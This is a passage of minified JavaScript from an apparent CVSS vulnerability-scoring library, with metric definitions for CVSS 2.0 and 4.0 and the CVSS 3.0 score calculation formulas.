revenue."},L:{shortName:"L",value:.1,name:"Low",jsonSchemaName:"LOW",description:"A successful exploit of this vulnerability may result in slight physical or property damage. Or, there may be a slight loss of revenue or productivity to the organization."},LM:{shortName:"LM",value:.3,name:"Low-Medium",abbreviatedName:"Low-Med.",jsonSchemaName:"LOW_MEDIUM",description:"A successful exploit of this vulnerability may result in moderate physical or property damage. Or, there may be a moderate loss of revenue or productivity to the organization."},MH:{shortName:"MH",value:.4,name:"Medium-High",abbreviatedName:"Med.-High",jsonSchemaName:"MEDIUM_HIGH",description:"A successful exploit of this vulnerability may result in significant physical or property damage or loss. Or, there may be a significant loss of revenue or productivity."},H:{shortName:"H",value:.5,name:"High",jsonSchemaName:"HIGH",description:"A successful exploit of this vulnerability may result in catastrophic physical or property damage and loss. Or, there may be a catastrophic loss of revenue or productivity."}},s.CDP={name:"Collateral Damage Potential",shortName:"CDP",subCategory:"General Modifiers",description:'This metric measures the potential for loss of life or physical assets resulting from a vulnerability. "None" is the lowest impact and "High" is the highest impact.',values:[a.CDP_VALUES.ND,a.CDP_VALUES.N,a.CDP_VALUES.L,a.CDP_VALUES.LM,a.CDP_VALUES.MH,a.CDP_VALUES.H]},s.TD_VALUES={ND:{shortName:"ND",value:1,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Assigning this value to the metric will not influence the score. It is a signal to the equation to skip this metric."},N:{shortName:"N",value:0,name:"None",jsonSchemaName:"NONE",description:"There is no (0%) target distribution."},L:{shortName:"L",value:.25,name:"Low",jsonSchemaName:"LOW",description:"There is a small (< 25%) target distribution."},M:{shortName:"M",value:.75,name:"Medium",jsonSchemaName:"MEDIUM",description:"There is a medium (26-75%) target distribution."},H:{shortName:"H",value:1,name:"High",description:"There is a high (> 75%) target distribution."}},s.TD={name:"Target Distribution",shortName:"TD",subCategory:"General Modifiers",description:'This metric measures the proportion of vulnerable systems that could be affected by an attack. It is meant to represent the proportion of vulnerable systems that an attacker can expect to target. "None" is the lowest impact and "High" is the highest impact.',values:[a.TD_VALUES.ND,a.TD_VALUES.N,a.TD_VALUES.L,a.TD_VALUES.M,a.TD_VALUES.H]},s.CR_VALUES={ND:{shortName:"ND",value:1,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Assigning this value to the metric will not influence the score. It is a signal to the equation to skip this metric."},L:{shortName:"L",value:.5,name:"Low",jsonSchemaName:"LOW",description:"Loss of confidentiality is likely to have only a limited adverse effect on the organization or individuals associated with the organization (e.g., employees, customers)."},M:{shortName:"M",value:1,name:"Medium",jsonSchemaName:"MEDIUM",description:"Loss of confidentiality is likely to have a serious adverse effect on the organization or individuals associated with the organization (e.g., employees, customers)."},H:{shortName:"H",value:1.51,name:"High",jsonSchemaName:"HIGH",description:"Loss of confidentiality is likely to have a catastrophic adverse effect on the organization or individuals associated with the organization (e.g., employees, customers)."}},s.CR={name:"Confidentiality Requirement",shortName:"CR",subCategory:"Modified Requirement (Impact Subscore) Modifiers",description:'This metric measures the need for confidentiality of the vulnerable component to the user. For example, an attacker that exploits a vulnerability that exists on a network boundary and requires no privileges has a low need for the confidentiality of the vulnerable component. Conversely, an attacker that exploits a vulnerability that exists on the same system as the vulnerable component and requires Privileged access to the system in order to exploit it has a high need for confidentiality. "Not Defined" is the lowest impact and "High" is the highest impact.',values:[a.CR_VALUES.ND,a.CR_VALUES.L,a.CR_VALUES.M,a.CR_VALUES.H]},s.IR_VALUES={ND:{shortName:"ND",value:1,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Assigning this value to the metric will not influence the score. It is a signal to the equation to skip this metric."},L:{shortName:"L",value:.5,name:"Low",jsonSchemaName:"LOW",description:"Loss of integrity is likely to have only a limited adverse effect on the organization or individuals associated with the organization (e.g., employees, customers)."},M:{shortName:"M",value:1,name:"Medium",jsonSchemaName:"MEDIUM",description:"Loss of integrity is likely to have a serious adverse effect on the organization or individuals associated with the organization (e.g., employees, customers)."},H:{shortName:"H",value:1.51,name:"High",jsonSchemaName:"HIGH",description:"Loss of integrity is likely to have a catastrophic adverse effect on the organization or individuals associated with the organization (e.g., employees, customers)."}},s.IR={name:"Integrity Requirement",shortName:"IR",subCategory:"Modified Requirement (Impact Subscore) Modifiers",description:'This metric measures the need for integrity of the vulnerable component to a user. For example, an attacker that exploits a vulnerability that exists on a network boundary and requires no privileges has a low need for the integrity of the vulnerable component. Conversely, an attacker that exploits a vulnerability that exists on the same system as the vulnerable component and requires Privileged access to the system in order to exploit it has a high need for integrity. "Not Defined" is the lowest impact and "High" is the highest impact.',values:[a.IR_VALUES.ND,a.IR_VALUES.L,a.IR_VALUES.M,a.IR_VALUES.H]},s.AR_VALUES={ND:{shortName:"ND",value:1,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Assigning this value to the metric will not influence the score. It is a signal to the equation to skip this metric."},L:{shortName:"L",value:.5,name:"Low",jsonSchemaName:"LOW",description:"Loss of availability is likely to have only a limited adverse effect on the organization or individuals associated with the organization (e.g., employees, customers)."},M:{shortName:"M",value:1,name:"Medium",jsonSchemaName:"MEDIUM",description:"Loss of availability is likely to have a serious adverse effect on the organization or individuals associated with the organization (e.g., employees, customers)."},H:{shortName:"H",value:1.51,name:"High",jsonSchemaName:"HIGH",description:"Loss of availability is likely to have a catastrophic adverse effect on the organization or individuals associated with the organization (e.g., employees, customers)."}},s.AR={name:"Availability Requirement",shortName:"AR",subCategory:"Modified Requirement (Impact Subscore) Modifiers",description:'This metric measures the need for availability of the vulnerable component to a user. For example, an attacker that exploits a vulnerability that exists on a network boundary and requires no privileges has a low need for the availability of the vulnerable component. Conversely, an attacker that exploits a vulnerability that exists on the same system as the vulnerable component and requires Privileged access to the system in order to exploit it has a high need for availability. "Not Defined" is the lowest impact and "High" is the highest impact.',values:[a.AR_VALUES.ND,a.AR_VALUES.L,a.AR_VALUES.M,a.AR_VALUES.H]},s.ENVIRONMENTAL_CATEGORY_VALUES=[a.CDP,a.TD,a.CR,a.IR,a.AR],s.REGISTERED_COMPONENTS=new Map,a.REGISTERED_COMPONENTS.set(a.BASE_CATEGORY,a.BASE_CATEGORY_VALUES),a.REGISTERED_COMPONENTS.set(a.TEMPORAL_CATEGORY,a.TEMPORAL_CATEGORY_VALUES),a.REGISTERED_COMPONENTS.set(a.ENVIRONMENTAL_CATEGORY,a.ENVIRONMENTAL_CATEGORY_VALUES),s.ATTRIBUTE_SEVERITY_ORDER=i.CvssVector._reorderAttributeSeverityOrder([a.AC_VALUES.ND,a.AV_VALUES.ND,a.Au_VALUES.ND,a.C_VALUES.ND,a.I_VALUES.ND,a.A_VALUES.ND,a.C_VALUES.N,a.I_VALUES.N,a.A_VALUES.N,a.CDP_VALUES.N,a.CDP_VALUES.ND,a.TD_VALUES.N,a.CDP_VALUES.L,a.TD_VALUES.L,a.C_VALUES.P,a.I_VALUES.P,a.A_VALUES.P,a.CDP_VALUES.LM,a.AC_VALUES.H,a.AV_VALUES.L,a.CDP_VALUES.MH,a.Au_VALUES.M,a.CDP_VALUES.H,a.Au_VALUES.S,a.AC_VALUES.M,a.AV_VALUES.A,a.C_VALUES.C,a.I_VALUES.C,a.A_VALUES.C,a.Au_VALUES.N,a.AC_VALUES.L,a.TD_VALUES.M,a.E_VALUES.U,a.RL_VALUES.OF,a.E_VALUES.POC,a.RL_VALUES.TF,a.RL_VALUES.W,a.RC_VALUES.UC,a.AV_VALUES.N,a.E_VALUES.F,a.E_VALUES.H,a.E_VALUES.ND,a.RL_VALUES.U,a.RL_VALUES.ND,a.RC_VALUES.UR,a.RC_VALUES.C,a.RC_VALUES.ND,a.TD_VALUES.H,a.TD_VALUES.ND,a.CR_VALUES.L,a.CR_VALUES.M,a.IR_VALUES.L,a.IR_VALUES.M,a.AR_VALUES.L,a.AR_VALUES.M,a.CR_VALUES.ND,a.IR_VALUES.ND,a.AR_VALUES.ND,a.CR_VALUES.H,a.IR_VALUES.H,a.AR_VALUES.H])},564:(e,t,o)=>{Object.defineProperty(t,"__esModule",{value:!0}),t.applyVectorPartsIfMetricsHigher=t.applyVectorPartsIfMetricsLower=t.fromVector=void 0;const a=o(475),i=o(623),s=o(371),n=o(987),r=o(479),c=o(331),l=o(951),m=o(759),h={"CVSS:2.0":a.Cvss2,"2.0":a.Cvss2,"CVSS:3.0":i.Cvss3P0,"3.0":i.Cvss3P0,"CVSS:3.1":s.Cvss3P1,3.1:s.Cvss3P1,"CVSS:4.0":n.Cvss4P0,"4.0":n.Cvss4P0};function E(e,t,o){if(!t)return 0;const a=e.normalizeVector(t);if(0===a.length)return 0;const i=a.split("/");let s=0;for(const t of i){if(!t)continue;const a=t.split(":",2);if(2===a.length){const t=a[0],i=a[1],n=e.getComponentByStringOpt(t),r=t.startsWith("M"),c=r?t.replace("M",""):t,l=e.getComponentByStringOpt(c),m=r?t:`M${t}`,h=e.getComponentByStringOpt(m),E=(null==n?void 0:n.shortName)||"X",u=e.applyComponentStringSilent(t,i),d=e.getComponentByStringOpt(t);u&&o(n,l,h,d,r)?s++:e.applyComponentStringSilent(t,E)}else console.warn("Unknown vector argument:",t)}return s}function u(e,t,o,a,i){const s=null!=o&&"NOT_DEFINED"!==o.name&&"NULL"!==o.name&&"X"!==o.shortName;return{oldSeverity:d(e,i&&s?o:t),newSeverity:d(e,a)}}function d(e,t){if(!t)return-1;let o=[];if(e instanceof a.Cvss2?o=r.Cvss2Components.ATTRIBUTE_SEVERITY_ORDER:e instanceof i.Cvss3P0?o=c.Cvss3P0Components.ATTRIBUTE_SEVERITY_ORDER:e instanceof s.Cvss3P1?o=l.Cvss3P1Components.ATTRIBUTE_SEVERITY_ORDER:e instanceof n.Cvss4P0&&(o=m.Cvss4P0Components.ATTRIBUTE_SEVERITY_ORDER),0===o.length)return console.warn("Unknown",e.getVectorName(),"severity order list for attribute type:",t),-1;for(let e=0;e<o.length;e++)if(o[e].includes(t))return e;return console.warn("Unknown",e.getVectorName(),"attribute type:",t),-1}t.fromVector=function(e,t=void 0){if(t){const o=h[t];if(o)return new o(e)}const o=h[e];if(o)return new o;for(let t in h){const o=h[t];if(e.startsWith(t))try{return new o(e)}catch(e){}}for(let t in h){const o=h[t];try{return new o(e)}catch(e){}}return null},t.applyVectorPartsIfMetricsLower=function(e,t){return t?E(e,t,((t,o,a,i,s)=>{const n=u(e,o,a,i,s);return n.newSeverity<=n.oldSeverity})):0},t.applyVectorPartsIfMetricsHigher=function(e,t){return t?E(e,t,((t,o,a,i,s)=>{const n=u(e,o,a,i,s);return n.newSeverity>=n.oldSeverity})):0}},623:(e,t,o)=>{Object.defineProperty(t,"__esModule",{value:!0}),t.Cvss3P0=void 0;const a=o(154),i=o(331);class s extends a.CvssVector{constructor(e){super(e)}getRegisteredComponents(){return i.Cvss3P0Components.REGISTERED_COMPONENTS}getVectorPrefix(){return"CVSS:3.0/"}getVectorName(){return"CVSS:3.0"}fillAverageVector(){this.applyVector("AV:N/AC:H/PR:N/UI:N/S:U/C:L/I:L/A:L")}fillRandomBaseVector(){this.fillRandomComponentsForCategory(i.Cvss3P0Components.BASE_CATEGORY)}fillRandomTemporalVector(){this.fillRandomComponentsForCategory(i.Cvss3P0Components.TEMPORAL_CATEGORY)}fillRandomEnvironmentalVector(){this.fillRandomComponentsForCategory(i.Cvss3P0Components.ENVIRONMENTAL_CATEGORY)}fillRandomComponentsForCategory(e){const t=i.Cvss3P0Components.REGISTERED_COMPONENTS.get(e);if(t)for(let e=0;e<t.length;e++){const o=t[e],a=super.pickRandomDefinedComponentValue(o);if(!a)return console.warn("Failed to pick random vector component for",o),void this.fillAverageVector();this.applyComponent(o,a)}else console.warn("Failed to pick random vector components for",e)}calculateScoresInternal(e=!1){const t=this.isBaseFullyDefined(),o=this.isAnyTemporalDefined(),a=this.isAnyEnvironmentalDefined();return{normalized:e,base:t?super.round(this.calculateExactBaseScore(),1):void 0,impact:t?super.normalizeScore(super.round(this.calculateImpactScore(),1),e?6:10):void 0,exploitability:t?super.normalizeScore(super.round(this.calculateExactExploitabilityScore(),1),e?3.9:10):void 0,temporal:t&&o?super.round(this.calculateExactTemporalScore(),1):void 0,environmental:t&&a?super.round(this.calculateExactEnvironmentalScore(),1):void 0,modifiedImpact:t&&a?super.normalizeScore(super.round(Math.max(0,this.calculateExactAdjustedImpactScore()),1),e?6.1:10):void 0,overall:super.round(this.calculateExactOverallScore(),1),vector:this.toString()}}calculateExactBaseScore(){if(!this.isBaseFullyDefined())return 0;let e=this.calculateExactImpactScore();if(e<=0)return 0;let t=this.calculateExactExploitabilityScore();return this.getComponent(i.Cvss3P0Components.S).value?this.roundUp1(Math.min(s.SCOPE_COEFFICIENT*(e+t),10)):this.roundUp1(Math.min(e+t,10))}calculateImpactScore(){const e=this.calculateExactImpactScore();return e<=0?0:e}calculateExactImpactScore(){let e=this.calculateExactISSScore();return this.getComponent(i.Cvss3P0Components.S).value?s.SCOPE_CHANGED_FACTOR*(e-.029)-3.25*Math.pow(e-.02,15):s.SCOPE_UNCHANGED_FACTOR*e}calculateExactISSScore(){return 1-(1-this.getComponent(i.Cvss3P0Components.C).value)*(1-this.getComponent(i.Cvss3P0Components.I).value)*(1-this.getComponent(i.Cvss3P0Components.A).value)}calculateExactMISSScore(){let e,t,o,a,s,n,r=this.getComponent(i.Cvss3P0Components.MC),c=this.getComponent(i.Cvss3P0Components.MI),l=this.getComponent(i.Cvss3P0Components.MA),m=this.getComponent(i.Cvss3P0Components.C),h=this.getComponent(i.Cvss3P0Components.I),E=this.getComponent(i.Cvss3P0Components.A),u=this.getComponent(i.Cvss3P0Components.CR),d=this.getComponent(i.Cvss3P0Components.IR),p=this.getComponent(i.Cvss3P0Components.AR);return e=r===i.Cvss3P0Components.MC.values[0]?m.value:r.value,t=c===i.Cvss3P0Components.MI.values[0]?h.value:c.value,o=l===i.Cvss3P0Components.MA.values[0]?E.value:l.value,i.Cvss3P0Components.CR.values[0],a=u.value,i.Cvss3P0Components.IR.values[0],s=d.value,i.Cvss3P0Components.AR.values[0],n=p.value,Math.min(1-(1-a*e)*(1-s*t)*(1-n*o),.915)}calculateExactExploitabilityScore(){const e=this.getComponent(i.Cvss3P0Components.AV).value,t=this.getComponent(i.Cvss3P0Components.AC).value,o=this.getComponent(i.Cvss3P0Components.UI).value;let a;return a=this.getComponent(i.Cvss3P0Components.S).value?this.getComponent(i.Cvss3P0Components.PR).changedValue:this.getComponent(i.Cvss3P0Components.PR).value,s.EXPLOITABILITY_COEFFICIENT*e*t*a*o}calculateExactTemporalScore(){if(!this.isBaseFullyDefined())return 0;if(!this.isAnyTemporalDefined())return 0;let e=this.getComponent(i.Cvss3P0Components.E).value,t=this.getComponent(i.Cvss3P0Components.RL).value,o=this.getComponent(i.Cvss3P0Components.RC).value,a=this.calculateExactBaseScore();return this.roundUp1(a*e*t*o)}calculateExactEnvironmentalScore(){if(!this.isBaseFullyDefined())return 0;if(!this.isAnyEnvironmentalDefined())return 0;let e=this.calculateExactAdjustedImpactScore();if(e<=0)return 0;let t=this.calculateAdjustedExploitability(),o=this.getComponent(i.Cvss3P0Components.E).value,a=this.getComponent(i.Cvss3P0Components.RL).value,n=this.getComponent(i.Cvss3P0Components.RC).value;if(this.isModifiedScope()){let i=this.roundUp1(Math.min(e+t,10));return this.roundUp1(i*o*a*n)}{let i=this.roundUp1(Math.min(s.SCOPE_COEFFICIENT*(e+t),10));return this.roundUp1(i*o*a*n)}}calculateExactAdjustedImpactScore(){if(!this.isBaseFullyDefined())return 0;if(!this.isAnyEnvironmentalDefined())return 0;let e=this.calculateExactMISSScore();return this.isModifiedScope()?s.SCOPE_UNCHANGED_FACTOR*e:s.SCOPE_CHANGED_FACTOR*(e-.029)-3.25*Math.pow(e-.02,15)}calculateAdjustedExploitability(){let e,t=this.getFirstDefinedComponent([i.Cvss3P0Components.MAV,i.Cvss3P0Components.AV]).value,o=this.getFirstDefinedComponent([i.Cvss3P0Components.MAC,i.Cvss3P0Components.AC]).value,a=this.getFirstDefinedComponent([i.Cvss3P0Components.MUI,i.Cvss3P0Components.UI]).value,n=this.getFirstDefinedComponent([i.Cvss3P0Components.MPR,i.Cvss3P0Components.PR]);return e=this.isModifiedScope()?n.value:n.changedValue,s.EXPLOITABILITY_COEFFICIENT*t*o*e*a}isModifiedScope(){let e=this.getComponent(i.Cvss3P0Components.S),t=this.getComponent(i.Cvss3P0Components.MS);return t===i.Cvss3P0Components.MS.values[0]?!e.value:!t.value}calculateExactOverallScore(){return this.isAnyEnvironmentalDefined()?this.calculateExactEnvironmentalScore():this.isAnyTemporalDefined()?this.calculateExactTemporalScore():this.calculateExactBaseScore()}isBaseFullyDefined(){return super.isCategoryFullyDefined(i.Cvss3P0Components.BASE_CATEGORY)}isTemporalFullyDefined(){return super.isCategoryFullyDefined(i.Cvss3P0Components.TEMPORAL_CATEGORY)}isEnvironmentalFullyDefined(){return super.isCategoryFullyDefined(i.Cvss3P0Components.ENVIRONMENTAL_CATEGORY)}isAnyBaseDefined(){return super.isCategoryPartiallyDefined(i.Cvss3P0Components.BASE_CATEGORY)}isAnyTemporalDefined(){return super.isCategoryPartiallyDefined(i.Cvss3P0Components.TEMPORAL_CATEGORY)}isAnyEnvironmentalDefined(){return super.isCategoryPartiallyDefined(i.Cvss3P0Components.ENVIRONMENTAL_CATEGORY)}roundUp1(e){return Math.ceil(10*e)/10}getJsonSchemaSeverity(e){return 0===e||isNaN(e)?"NONE":e<=3.9?"LOW":e<=6.9?"MEDIUM":e<=8.9?"HIGH":"CRITICAL"}createJsonSchema(){const e=this.calculateScores();return{version:"3.0",vectorString:this.toString(),baseScore:e.base,temporalScore:e.temporal,environmentalScore:e.environmental,baseSeverity:this.getJsonSchemaSeverity(e.base),temporalSeverity:e.temporal?this.getJsonSchemaSeverity(e.temporal):void 0,environmentalSeverity:e.environmental?this.getJsonSchemaSeverity(e.environmental):void 0,attackVector:this.getComponent(i.Cvss3P0Components.AV).jsonSchemaName,attackComplexity:this.getComponent(i.Cvss3P0Components.AC).jsonSchemaName,privilegesRequired:this.getComponent(i.Cvss3P0Components.PR).jsonSchemaName,userInteraction:this.getComponent(i.Cvss3P0Components.UI).jsonSchemaName,scope:this.getComponent(i.Cvss3P0Components.S).jsonSchemaName,confidentialityImpact:this.getComponent(i.Cvss3P0Components.C).jsonSchemaName,integrityImpact:this.getComponent(i.Cvss3P0Components.I).jsonSchemaName,availabilityImpact:this.getComponent(i.Cvss3P0Components.A).jsonSchemaName,exploitCodeMaturity:this.getComponent(i.Cvss3P0Components.E).jsonSchemaName,remediationLevel:this.getComponent(i.Cvss3P0Components.RL).jsonSchemaName,reportConfidence:this.getComponent(i.Cvss3P0Components.RC).jsonSchemaName,confidentialityRequirement:this.getComponent(i.Cvss3P0Components.CR).jsonSchemaName,integrityRequirement:this.getComponent(i.Cvss3P0Components.IR).jsonSchemaName,availabilityRequirement:this.getComponent(i.Cvss3P0Components.AR).jsonSchemaName,modifiedAttackVector:this.getComponent(i.Cvss3P0Components.MAV).jsonSchemaName,modifiedAttackComplexity:this.getComponent(i.Cvss3P0Components.MAC).jsonSchemaName,modifiedPrivilegesRequired:this.getComponent(i.Cvss3P0Components.MPR).jsonSchemaName,modifiedUserInteraction:this.getComponent(i.Cvss3P0Components.MUI).jsonSchemaName,modifiedScope:this.getComponent(i.Cvss3P0Components.MS).jsonSchemaName,modifiedConfidentialityImpact:this.getComponent(i.Cvss3P0Components.MC).jsonSchemaName,modifiedIntegrityImpact:this.getComponent(i.Cvss3P0Components.MI).jsonSchemaName,modifiedAvailabilityImpact:this.getComponent(i.Cvss3P0Components.MA).jsonSchemaName}}}t.Cvss3P0=s,s.SCOPE_CHANGED_FACTOR=7.52,s.SCOPE_UNCHANGED_FACTOR=6.42,s.EXPLOITABILITY_COEFFICIENT=8.22,s.SCOPE_COEFFICIENT=1.08},730:(e,t)=>{Object.defineProperty(t,"__esModule",{value:!0}),t.EQ=void 0;class o{constructor(e,t,o,a){this.highestSeverityVectors=[],this.level=e,this.vectorDepth=t,this.highestSeverityVectorsUnparsed=o,this.predicate=a}getLevel(){return this.level}getLevelAsInt(){return parseInt(this.level)}getVectorDepth(){return this.vectorDepth}getHighestSeverityVectors(){return 0===this.highestSeverityVectors.length&&(this.highestSeverityVectors=this.highestSeverityVectorsUnparsed.map((e=>o.createCvssInstance(e)))),this.highestSeverityVectors}getHighestSeverityVectorsUnparsed(){return this.highestSeverityVectorsUnparsed}matchesConstraints(e){return this.predicate(e)}}t.EQ=o},759:(e,t)=>{Object.defineProperty(t,"__esModule",{value:!0}),t.Cvss4P0Components=void 0;class o{}t.Cvss4P0Components=o,o.VULNERABLE_SYSTEM_CONFIDENTIALITY_BASE_VALUES={X:{shortName:"X",name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Component is not defined."},H:{shortName:"H",name:"High",jsonSchemaName:"HIGH",description:"There is a total loss of confidentiality, resulting in all information within the Vulnerable System being divulged to the attacker. Alternatively, access to only some restricted information is obtained, but the disclosed information presents a direct, serious impact."},L:{shortName:"L",name:"Low",jsonSchemaName:"LOW",description:"There is some loss of confidentiality. Access to some restricted information is obtained, but the attacker does not have control over what information is obtained, or the amount or kind of loss is limited. The information disclosure does not cause a direct, serious loss to the Vulnerable System."},N:{shortName:"N",name:"None",jsonSchemaName:"NONE",description:"There is no loss of confidentiality within the Vulnerable System."}},o.VULNERABLE_SYSTEM_CONFIDENTIALITY_BASE=[o.VULNERABLE_SYSTEM_CONFIDENTIALITY_BASE_VALUES.X,o.VULNERABLE_SYSTEM_CONFIDENTIALITY_BASE_VALUES.H,o.VULNERABLE_SYSTEM_CONFIDENTIALITY_BASE_VALUES.L,o.VULNERABLE_SYSTEM_CONFIDENTIALITY_BASE_VALUES.N],o.VULNERABLE_SYSTEM_INTEGRITY_BASE_VALUES={X:{shortName:"X",name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Component is not defined."},H:{shortName:"H",name:"High",jsonSchemaName:"HIGH",description:"There is a total loss of integrity, or a complete loss of protection. For example, the attacker is able to modify any/all files protected by the Vulnerable System. Alternatively, only some files can be modified, but malicious modification would present a direct, serious consequence to the Vulnerable System."},L:{shortName:"L",name:"Low",jsonSchemaName:"LOW",description:"Modification of data is possible, but the attacker does not have control over the consequence of a modification, or the amount of modification is limited. The data modification does not have a direct, serious impact to the Vulnerable System."},N:{shortName:"N",name:"None",jsonSchemaName:"NONE",description:"There is no loss of integrity within the Vulnerable System."}},o.VULNERABLE_SYSTEM_INTEGRITY_BASE=[o.VULNERABLE_SYSTEM_INTEGRITY_BASE_VALUES.X,o.VULNERABLE_SYSTEM_INTEGRITY_BASE_VALUES.H,o.VULNERABLE_SYSTEM_INTEGRITY_BASE_VALUES.L,o.VULNERABLE_SYSTEM_INTEGRITY_BASE_VALUES.N],o.VULNERABLE_SYSTEM_AVAILABILITY_BASE_VALUES={X:{shortName:"X",name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Component is not defined."},H:{shortName:"H",name:"High",jsonSchemaName:"HIGH",description:"There is a total loss of availability, resulting in the attacker being able to fully deny access to resources in the Vulnerable System; this loss is either sustained (while the attacker continues to deliver the attack) or persistent (the condition persists even after the attack has completed). Alternatively, the attacker has the ability to deny some availability, but the loss of availability presents a direct, serious consequence to the Vulnerable System (e.g., the attacker cannot disrupt existing connections, but can prevent new connections; the attacker can repeatedly exploit a vulnerability that, in each instance of a successful attack, leaks a only small amount of memory, but after repeated exploitation causes a service to become completely unavailable)."},L:{shortName:"L",name:"Low",jsonSchemaName:"LOW",description:"Performance is reduced or there are interruptions in resource availability. Even if repeated exploitation of the vulnerability is possible, the attacker does not have the ability to completely deny service to legitimate users. The resources in the Vulnerable System are either partially available all of the time, or fully available only some of the time, but overall there is no direct, serious consequence to the Vulnerable System."},N:{shortName:"N",name:"None",jsonSchemaName:"NONE",description:"There is no impact to availability within the Vulnerable System."}},o.VULNERABLE_SYSTEM_AVAILABILITY_BASE=[o.VULNERABLE_SYSTEM_AVAILABILITY_BASE_VALUES.X,o.VULNERABLE_SYSTEM_AVAILABILITY_BASE_VALUES.H,o.VULNERABLE_SYSTEM_AVAILABILITY_BASE_VALUES.L,o.VULNERABLE_SYSTEM_AVAILABILITY_BASE_VALUES.N],o.SUBSEQUENT_SYSTEM_CONFIDENTIALITY_BASE_VALUES={X:{shortName:"X",name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Component is not defined."},S:{shortName:"S",name:"Safety",jsonSchemaName:"SAFETY",description:"! NOT A VALID VALUE FOR Safety (S), REQUIRED FOR CALCULATION OF SCORE !",hide:!0},H:{shortName:"H",name:"High",jsonSchemaName:"HIGH",description:"There is a total loss of confidentiality, resulting in all resources within the Subsequent System being divulged to the attacker. Alternatively, access to only some restricted information is obtained, but the disclosed information presents a direct, serious impact."},L:{shortName:"L",name:"Low",jsonSchemaName:"LOW",description:"There is some loss of confidentiality. Access to some restricted information is obtained, but the attacker does not have control over what information is obtained, or the amount or kind of loss is limited. The information disclosure does not cause a direct, serious loss to the Subsequent System."},N:{shortName:"N",name:"None",jsonSchemaName:"NONE",description:"There is no loss of confidentiality within the Subsequent System or all confidentiality impact is constrained to the Vulnerable System."}},o.SUBSEQUENT_SYSTEM_CONFIDENTIALITY_BASE=[o.SUBSEQUENT_SYSTEM_CONFIDENTIALITY_BASE_VALUES.X,o.SUBSEQUENT_SYSTEM_CONFIDENTIALITY_BASE_VALUES.S,o.SUBSEQUENT_SYSTEM_CONFIDENTIALITY_BASE_VALUES.H,o.SUBSEQUENT_SYSTEM_CONFIDENTIALITY_BASE_VALUES.L,o.SUBSEQUENT_SYSTEM_CONFIDENTIALITY_BASE_VALUES.N],o.SUBSEQUENT_SYSTEM_INTEGRITY_BASE_VALUES={X:{shortName:"X",name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Component is not defined."},S:{shortName:"S",name:"Safety",jsonSchemaName:"SAFETY",description:"! NOT A VALID VALUE FOR Safety (S), REQUIRED FOR CALCULATION OF SCORE !",hide:!0},H:{shortName:"H",name:"High",jsonSchemaName:"HIGH",description:"There is a total loss of integrity, or a complete loss of protection. For example, the attacker is able to modify any/all files protected by the Subsequent System. Alternatively, only some files can be modified, but malicious modification would present a direct, serious consequence to the Subsequent System."},L:{shortName:"L",name:"Low",jsonSchemaName:"LOW",description:"Modification of data is possible, but the attacker does not have control over the consequence of a modification, or the amount of modification is limited. The data modification does not have a direct, serious impact to the Subsequent System."},N:{shortName:"N",name:"None",jsonSchemaName:"NONE",description:"There is no loss of integrity within the Subsequent System or all integrity impact is constrained to the Vulnerable System."}},o.SUBSEQUENT_SYSTEM_INTEGRITY_BASE=[o.SUBSEQUENT_SYSTEM_INTEGRITY_BASE_VALUES.X,o.SUBSEQUENT_SYSTEM_INTEGRITY_BASE_VALUES.S,o.SUBSEQUENT_SYSTEM_INTEGRITY_BASE_VALUES.H,o.SUBSEQUENT_SYSTEM_INTEGRITY_BASE_VALUES.L,o.SUBSEQUENT_SYSTEM_INTEGRITY_BASE_VALUES.N],o.SUBSEQUENT_SYSTEM_AVAILABILITY_BASE_VALUES={X:{shortName:"X",name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Component is not defined."},S:{shortName:"S",name:"Safety",jsonSchemaName:"SAFETY",description:"! NOT A VALID VALUE FOR Safety (S), REQUIRED FOR CALCULATION OF SCORE !",hide:!0},H:{shortName:"H",name:"High",jsonSchemaName:"HIGH",description:"There is a total loss of availability, resulting in the attacker being able to fully deny access to resources in the Subsequent System; this loss is either sustained (while the attacker continues to deliver the attack) or persistent (the condition persists even after the attack has completed). Alternatively, the attacker has the ability to deny some availability, but the loss of availability presents a direct, serious consequence to the Subsequent System (e.g., the attacker cannot disrupt existing connections, but can prevent new connections; the attacker can repeatedly exploit a vulnerability that, in each instance of a successful attack, leaks a only small amount of memory, but after repeated exploitation causes a service to become completely unavailable)."},L:{shortName:"L",name:"Low",jsonSchemaName:"LOW",description:"Performance is reduced or there are interruptions in resource availability. Even if repeated exploitation of the vulnerability is possible, the attacker does not have the ability to completely deny service to legitimate users. The resources in the Subsequent System are either partially available all of the time, or fully available only some of the time, but overall there is no direct, serious consequence to the Subsequent System."},N:{shortName:"N",name:"None",jsonSchemaName:"NONE",description:"There is no impact to availability within the Subsequent System or all availability impact is constrained to the Vulnerable System."}},o.SUBSEQUENT_SYSTEM_AVAILABILITY_BASE=[o.SUBSEQUENT_SYSTEM_AVAILABILITY_BASE_VALUES.X,o.SUBSEQUENT_SYSTEM_AVAILABILITY_BASE_VALUES.S,o.SUBSEQUENT_SYSTEM_AVAILABILITY_BASE_VALUES.H,o.SUBSEQUENT_SYSTEM_AVAILABILITY_BASE_VALUES.L,o.SUBSEQUENT_SYSTEM_AVAILABILITY_BASE_VALUES.N],o.SUBSEQUENT_SYSTEM_CONFIDENTIALITY_MODIFIED_VALUES={X:{shortName:"X",name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Component is not defined."},H:{shortName:"H",name:"High",jsonSchemaName:"HIGH",description:"There is a total loss of confidentiality, resulting in all resources within the Subsequent System being divulged to the attacker. Alternatively, access to only some restricted information is obtained, but the disclosed information presents a direct, serious impact."},L:{shortName:"L",name:"Low",jsonSchemaName:"LOW",description:"There is some loss of confidentiality. Access to some restricted information is obtained, but the attacker does not have control over what information is obtained, or the amount or kind of loss is limited. The information disclosure does not cause a direct, serious loss to the Subsequent 